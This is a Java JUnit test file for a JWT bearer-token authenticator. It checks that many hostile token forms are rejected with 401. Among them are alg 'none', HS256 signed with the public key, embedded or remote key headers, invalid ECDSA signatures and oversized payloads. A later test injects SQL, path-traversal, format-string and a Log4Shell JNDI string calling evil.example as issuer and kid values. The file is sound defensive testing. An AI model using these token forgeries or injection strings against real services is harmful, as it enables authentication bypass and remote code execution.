package dev.firn.token;

import static dev.firn.token.Mint.SHARED;
import static dev.firn.token.Mint.encode;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import dev.firn.http.HttpProblem;
import dev.firn.token.key.KeySource;
import dev.firn.token.revocation.Revocation;
import dev.firn.token.revocation.RevocationList;
import java.math.BigInteger;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPairGenerator;
import java.security.interfaces.RSAPublicKey;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/// Group A of the hostile cases: forms of tokens.
class TokenFormTest {
  private static final Map<String, Object> GOOD = SHARED.claims("storage.read:/");
  private static final String PAYLOAD = Mint.JSON.writeValueAsString(GOOD);

  private final RevocationList revocations = new RevocationList(InstantSource.fixed(Mint.NOW));
  private final Authenticator authenticator =
      new Authenticator(
          List.of(SHARED.trusted()), Set.of(Mint.SITE), revocations, InstantSource.fixed(Mint.NOW));

  private record Case(String name, String token) {
    @Override
    public String toString() {
      return name;
    }
  }

  static Stream<Case> hostile() throws GeneralSecurityException {
    List<Case> cases = new ArrayList<>();
    for (String alg : List.of("none", "None", "nOnE", "NONE")) {
      String header = encode("{\"alg\":\"" + alg + "\",\"kid\":\"rsa-1\"}");
      cases.add(new Case("A1 " + alg, header + "." + encode(PAYLOAD) + ".AAAA"));
      cases.add(new Case("A1 unsigned " + alg, header + "." + encode(PAYLOAD) + "."));
    }
    cases.add(new Case("A2 no alg", SHARED.signText("{\"kid\":\"rsa-1\"}", PAYLOAD)));
    byte[] der = SHARED.rsa.getPublic().getEncoded();
    String pem =
        "-----BEGIN PUBLIC KEY-----\n"
            + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der)
            + "\n-----END PUBLIC KEY-----\n";
    List<byte[]> secrets =
        List.of(
            der,
            pem.getBytes(StandardCharsets.US_ASCII),
            SHARED.rsaJwk().toJSONString().getBytes(StandardCharsets.UTF_8),
            SHARED.ec.getPublic().getEncoded());
    for (byte[] secret : secrets) {
      for (String kid : List.of("rsa-1", "ec-1")) {
        cases.add(new Case("A3 HS256", hmac(secret, kid)));
      }
    }
    cases.add(new Case("A4 RS256 with EC kid", header("RS256", "ec-1")));
    cases.add(new Case("A4 ES256 with RSA kid", header("ES256", "rsa-1")));
    String jwk = Mint.OTHER.rsaJwk().toJSONString();
    cases.add(
        new Case(
            "A5 jwk",
            Mint.OTHER.signText(
                "{\"alg\":\"RS256\",\"kid\":\"rsa-1\",\"jwk\":" + jwk + "}", PAYLOAD)));
    cases.add(
        new Case(
            "A5 x5c",
            Mint.OTHER.signText(
                "{\"alg\":\"RS256\",\"kid\":\"rsa-1\",\"x5c\":[\"MIIB\"]}", PAYLOAD)));
    for (String url : List.of("jku", "x5u")) {
      cases.add(
          new Case(
              "A6 " + url,
              Mint.OTHER.signText(
                  "{\"alg\":\"RS256\",\"kid\":\"x\",\"%s\":\"https://canary.example/k\"}"
                      .formatted(url),
                  PAYLOAD)));
    }
    cases.add(
        new Case(
            "A7 JWE",
            encode("{\"alg\":\"RSA-OAEP-256\",\"enc\":\"A256GCM\",\"kid\":\"rsa-1\"}")
                + ".QUFB.QUFB.QUFB.QUFB"));
    cases.add(
        new Case(
            "A7 enc in a JWS",
            SHARED.signText("{\"alg\":\"RS256\",\"kid\":\"rsa-1\",\"enc\":\"A256GCM\"}", PAYLOAD)));
    cases.add(
        new Case(
            "A8 nested",
            SHARED.signText(
                "{\"alg\":\"RS256\",\"kid\":\"rsa-1\",\"cty\":\"JWT\"}", SHARED.sign(GOOD))));
    String es = encode("{\"alg\":\"ES256\",\"kid\":\"ec-1\"}") + "." + encode(PAYLOAD);
    byte[] order =
        Mint.unsigned(
            new BigInteger("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16));
    byte[] zero = new byte[64];
    byte[] sIsOrder = SHARED.p1363(es);
    System.arraycopy(order, 0, sIsOrder, 32, 32);
    byte[] rIsZero = SHARED.p1363(es);
    Arrays.fill(rIsZero, 0, 32, (byte) 0);
    cases.add(new Case("A9 zero", es + "." + encode(zero)));
    cases.add(new Case("A9 s=n", es + "." + encode(sIsOrder)));
    cases.add(new Case("A9 r=0", es + "." + encode(rIsZero)));
    cases.add(new Case("A10 DER", es + "." + encode(Mint.sign("SHA256withECDSA", SHARED.ec, es))));
    cases.add(
        new Case(
            "A11 crit",
            SHARED.signText(
                "{\"alg\":\"RS256\",\"kid\":\"rsa-1\",\"crit\":[\"exp\"],\"exp\":1}", PAYLOAD)));
    cases.add(
        new Case(
            "A11 b64",
            SHARED.signText(
                "{\"alg\":\"RS256\",\"kid\":\"rsa-1\",\"crit\":[\"b64\"],\"b64\":false}",
                PAYLOAD)));
    String good = SHARED.sign(GOOD);
    String[] parts = good.split("\\.");
    cases.add(new Case("A12 empty signature", parts[0] + "." + parts[1] + "."));
    cases.add(new Case("A12 one part", parts[0] + parts[1]));
    cases.add(new Case("A12 two parts", parts[0] + "." + parts[1]));
    cases.add(new Case("A12 four parts", good + ".AAAA"));
    cases.add(new Case("A12 five parts", good + ".AAAA.AAAA"));
    cases.add(new Case("A12 empty header", "." + parts[1] + "." + parts[2]));
    cases.add(new Case("A13 no kid", SHARED.sign(Map.of("alg", "RS256"), GOOD)));
    for (Object kid :
        List.of(
            1,
            "",
            "x".repeat(257),
            "../../dev/null",
            "' OR 1=1--",
            "rsa-1\r\nX: y",
            "rsa-1\0",
            List.of("rsa-1"),
            "RSA-1",
            "%s%n")) {
      cases.add(new Case("A13 kid", SHARED.sign(Map.of("alg", "RS256", "kid", kid), GOOD)));
    }
    for (String type : List.of("logout+jwt", "dpop+jwt", "JWE", "", "secevent+jwt")) {
      cases.add(
          new Case(
              "A14 " + type,
              SHARED.sign(Map.of("alg", "RS256", "kid", "rsa-1", "typ", type), GOOD)));
    }
    cases.add(new Case("A15 ID token", SHARED.sign(SHARED.claims("openid", "aud", "a-client"))));
    cases.add(new Case("A17 8193 bytes", good + "A".repeat(8193 - good.length())));
    cases.add(new Case("A17 2 MB", "A".repeat(1 << 21)));
    for (int depth : List.of(17, 1_000)) {
      cases.add(
          new Case(
              "A18 depth " + depth,
              SHARED.signText(
                  "{\"alg\":\"RS256\",\"kid\":\"rsa-1\"}",
                  PAYLOAD.substring(0, PAYLOAD.length() - 1)
                      + ",\"x\":"
                      + "[".repeat(depth)
                      + "]".repeat(depth)
                      + "}")));
    }
    cases.add(
        new Case(
            "A19 zip",
            SHARED.signText("{\"alg\":\"RS256\",\"kid\":\"rsa-1\",\"zip\":\"DEF\"}", PAYLOAD)));
    cases.add(
        new Case(
            "A19 PBES2",
            encode("{\"alg\":\"PBES2-HS256+A128KW\",\"enc\":\"A128GCM\",\"p2c\":2147483647}")
                + ".QUFB.QUFB.QUFB.QUFB"));
    for (String twice : List.of("iss", "scope", "exp")) {
      cases.add(
          new Case(
              "A21 two " + twice,
              SHARED.signText(
                  "{\"alg\":\"RS256\",\"kid\":\"rsa-1\"}",
                  "{\"%s\":%s,".formatted(twice, Mint.JSON.writeValueAsString(GOOD.get(twice)))
                      + PAYLOAD.substring(1))));
    }
    cases.add(
        new Case(
            "A21 two alg",
            SHARED.signText("{\"alg\":\"none\",\"alg\":\"RS256\",\"kid\":\"rsa-1\"}", PAYLOAD)));
    byte[] header = "{\"alg\":\"RS256\",\"kid\":\"rsa-1\"}".getBytes(StandardCharsets.UTF_8);
    cases.add(new Case("A22 trailing", bytes(header, PAYLOAD + "x", StandardCharsets.UTF_8)));
    cases.add(new Case("A22 trailing {}", bytes(header, PAYLOAD + "{}", StandardCharsets.UTF_8)));
    cases.add(new Case("A22 BOM", bytes(header, "\uFEFF" + PAYLOAD, StandardCharsets.UTF_8)));
    cases.add(new Case("A22 UTF-16", bytes(header, PAYLOAD, StandardCharsets.UTF_16)));
    cases.add(
        new Case("A22 Latin-1", bytes(header, withSub("\u00e9"), StandardCharsets.ISO_8859_1)));
    cases.add(new Case("A22 surrogate", bytes(header, withSub("\\ud800"), StandardCharsets.UTF_8)));
    cases.add(new Case("A22 NUL", bytes(header, withSub("\\u0000"), StandardCharsets.UTF_8)));
    cases.add(new Case("A22 array", bytes(header, "[" + PAYLOAD + "]", StandardCharsets.UTF_8)));
    cases.add(
        new Case("A25 PS256", SHARED.signText("{\"alg\":\"PS256\",\"kid\":\"rsa-1\"}", PAYLOAD)));
    cases.add(
        new Case("A25 RS512", SHARED.signText("{\"alg\":\"RS512\",\"kid\":\"rsa-1\"}", PAYLOAD)));
    return cases.stream();
  }

  private static String withSub(String sub) {
    return PAYLOAD.replace("7c2f4c1e-user", "user" + sub);
  }

  private static String bytes(byte[] header, String payload, Charset charset) {
    return SHARED.signBytes(header, payload.getBytes(charset));
  }

  private static String header(String alg, String kid) {
    return SHARED.sign(Map.of("alg", alg, "kid", kid), GOOD);
  }

  private static String hmac(byte[] secret, String kid) throws GeneralSecurityException {
    String signed = encode("{\"alg\":\"HS256\",\"kid\":\"" + kid + "\"}") + "." + encode(PAYLOAD);
    Mac mac = Mac.getInstance("HmacSHA256");
    mac.init(new SecretKeySpec(secret, "HmacSHA256"));
    return signed + "." + encode(mac.doFinal(signed.getBytes(StandardCharsets.US_ASCII)));
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void hostileFormsAre401(Case hostile) {
    assertThatThrownBy(() -> authenticator.authenticate(Headers.bearer(hostile.token())))
        .isInstanceOfSatisfying(
            HttpProblem.class,
            p -> {
              assertThat(p.status()).isEqualTo(401);
              assertThat(p.headers().get("WWW-Authenticate"))
                  .startsWith("Bearer realm=\"firn\", error=\"invalid_token\"")
                  .doesNotContain("canary")
                  .doesNotContain("\n");
            });
  }

  @Test
  void goodTokensOfEveryAcceptedTypeAndAlgorithmAreAccepted() {
    for (String type : List.of("JWT", "jwt", "at+jwt", "AT+JWT", "application/at+jwt")) {
      accept(SHARED.sign(Map.of("alg", "RS256", "kid", "rsa-1", "typ", type), GOOD));
    }
    accept(SHARED.sign(Map.of("alg", "RS256", "kid", "rsa-1"), GOOD));
    accept(SHARED.sign(Map.of("alg", "ES256", "kid", "ec-1"), GOOD));
  }

  @Test
  void otherSpellingsOfARevokedTokenStayRevokedA23() {
    String token = SHARED.sign(GOOD);
    accept(token);
    revocations.replace(
        "test",
        List.of(
            Revocation.of(
                Revocation.Kind.TOKEN,
                Mint.ISSUER,
                String.valueOf(GOOD.get("jti")),
                Instant.MAX,
                Mint.NOW.plusSeconds(7200))));
    refuse(token, "revoked");
    refuse(token + "=", "malformed");
    refuse(token + "==", "malformed");
    char last = token.charAt(token.length() - 1);
    String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    int refused = 0;
    for (char c : alphabet.toCharArray()) {
      if (c != last) {
        refuse(token.substring(0, token.length() - 1) + c, null);
        refused++;
      }
    }
    assertThat(refused).isEqualTo(63);
  }

  @Test
  void weakKeysAreNotUsedA24() throws Exception {
    AtomicInteger accepted = new AtomicInteger();
    var weak = KeyPairGenerator.getInstance("RSA");
    weak.initialize(1024);
    var key =
        new RSAKey.Builder((RSAPublicKey) weak.generateKeyPair().getPublic()).keyID("weak").build();
    String p521 =
        new ECKeyGenerator(Curve.P_521).keyID("p521").generate().toPublicJWK().toJSONString();
    String set =
        "{\"keys\":[%s,%s,%s]}".formatted(key.toJSONString(), p521, SHARED.rsaJwk().toJSONString());
    KeySource keys = KeySource.of(set);
    for (String kid : List.of("weak", "p521")) {
      for (String alg : List.of("RS256", "ES256", "PS256", "ES384", "ES512")) {
        if (keys.find(kid, alg) instanceof KeySource.Answer.Found) {
          accepted.incrementAndGet();
        }
      }
    }
    assertThat(accepted).hasValue(0);
    assertThat(keys.find("rsa-1", "RS256")).isInstanceOf(KeySource.Answer.Found.class);
  }

  @Test
  void aHundredThousandScopesOrClaimsAreTooManyBytesA20() {
    String scopes = "storage.read:/x ".repeat(100_000).strip();
    refuse(SHARED.token(scopes), "malformed");
    Map<String, Object> claims = SHARED.claims("storage.read:/");
    for (int i = 0; i < 100_000; i++) {
      claims.put("c" + i, i);
    }
    refuse(SHARED.sign(claims), "malformed");
  }

  @Test
  void namesInATokenAreNamesAndNothingElseF12() {
    for (String hostile :
        List.of(
            "' OR 1=1; DROP TABLE revocation; --",
            "../../etc/passwd",
            "%s%n%x",
            "${jndi:ldap://evil.example/x}",
            "rsa-1' --")) {
      refuse(SHARED.sign(SHARED.claims("storage.read:/", "iss", hostile)), "unknown-issuer");
      Map<String, Object> header = Map.of("alg", "RS256", "typ", "JWT", "kid", hostile);
      refuse(SHARED.sign(header, SHARED.claims("storage.read:/")), "unknown-key");
    }
  }

  @Test
  void onlyOneBearerHeaderCountsAndTheQueryDoesNotC39D11() {
    assertThat(authenticator.authenticate(Headers.none()).isAnonymous()).isTrue();
    for (String wrong : List.of("Basic dTpw", "Bearer", "Negotiate x", "")) {
      assertThatThrownBy(() -> authenticator.authenticate(Headers.authorization(wrong)))
          .isInstanceOfSatisfying(HttpProblem.class, p -> assertThat(p.status()).isEqualTo(401));
    }
    String good = "Bearer " + SHARED.sign(GOOD);
    String other = "Bearer " + SHARED.sign(SHARED.claims("storage.read:/other"));
    assertThatThrownBy(() -> authenticator.authenticate(Headers.authorization(good, other)))
        .isInstanceOfSatisfying(HttpProblem.class, p -> assertThat(p.status()).isEqualTo(400));
    // The WLCG suite's scripts send one header twice, which is no question.
    assertThat(authenticator.authenticate(Headers.authorization(good, good)).isAnonymous())
        .isFalse();
    Headers lower = Headers.authorization("bearer  " + SHARED.sign(GOOD) + " ");
    assertThat(authenticator.authenticate(lower).isAnonymous()).isFalse();
  }

  /// Every one-character change, cut and doubling of a good token is refused: the two verdicts that
  /// must agree are "these are the bytes that were signed" and "accepted".
  @Test
  void mutatedTokensAreRefusedK13() {
    Random random = new Random(Long.getLong("firn.seed", 7L));
    String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_.=";
    for (Map<String, Object> header :
        List.<Map<String, Object>>of(
            new HashMap<>(Map.of("alg", "RS256", "kid", "rsa-1")),
            new HashMap<>(Map.of("alg", "ES256", "kid", "ec-1")))) {
      String token = SHARED.sign(header, GOOD);
      accept(token);
      for (int i = 0; i < token.length(); i++) {
        char c = alphabet.charAt(random.nextInt(alphabet.length()));
        if (c != token.charAt(i)) {
          refuse(token.substring(0, i) + c + token.substring(i + 1), null);
        }
        refuse(token.substring(0, i) + token.substring(i + 1), null);
        refuse(token.substring(0, i) + token.charAt(i) + token.substring(i), null);
        refuse(token.substring(0, i), null);
      }
    }
  }

  private void accept(String token) {
    assertThat(authenticator.verify(token).subject()).isEqualTo("7c2f4c1e-user");
  }

  private void refuse(String token, String reason) {
    try {
      authenticator.verify(token);
    } catch (HttpProblem p) {
      assertThat(p.status()).isEqualTo(401);
      if (reason != null) {
        assertThat(p.detail()).endsWith(reason);
      }
      return;
    }
    throw new AssertionError("accepted");
  }
}
